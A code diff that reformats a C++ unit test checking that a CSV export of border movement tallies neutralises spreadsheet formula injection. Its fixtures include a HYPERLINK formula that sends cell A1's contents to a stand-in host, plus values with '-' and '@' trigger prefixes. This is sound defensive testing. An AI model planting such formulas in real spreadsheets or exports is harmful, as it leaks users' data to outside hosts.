@@ -184,10 +184,10 @@ TEST(FlashOutput, XlsxToAMissingFolderFailsClearly) {
 TEST(FlashOutput, AFormulaInATextCellIsNeutralisedInTheHxlCsv) {
   const std::string formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")";
   const std::vector<FlowTally> tallies = {
-      Tally({2025, 4, 1}, "Torkham", MovementMode::kSpontaneous, 40, {150, 130},
-            {60, 90, 110, 20}, formula),
-      Tally({2025, 4, 1}, "-Torkham", MovementMode::kSpontaneous, 40, {150, 130},
-            {60, 90, 110, 20}, "@Kabul"),
+      Tally({2025, 4, 1}, "Torkham", MovementMode::kSpontaneous, 40, {150, 130}, {60, 90, 110, 20},
+            formula),
+      Tally({2025, 4, 1}, "-Torkham", MovementMode::kSpontaneous, 40, {150, 130}, {60, 90, 110, 20},
+            "@Kabul"),
   };
   FlashOptions options;
   options.from = Date{2025, 4, 1};
@@ -214,7 +214,8 @@ TEST(FlashOutput, AFormulaInATextCellIsNeutralisedInTheHxlCsv) {
   const auto rows = ReadCsv(csv);
   ASSERT_EQ(rows.size(), 4u);
   bool seen = false;
-  for (const auto& row : rows) seen = seen || std::find(row.begin(), row.end(), formula) != row.end();
+  for (const auto& row : rows)
+    seen = seen || std::find(row.begin(), row.end(), formula) != row.end();
   EXPECT_TRUE(seen);
   EXPECT_EQ(rows[2][5], "40");
 }
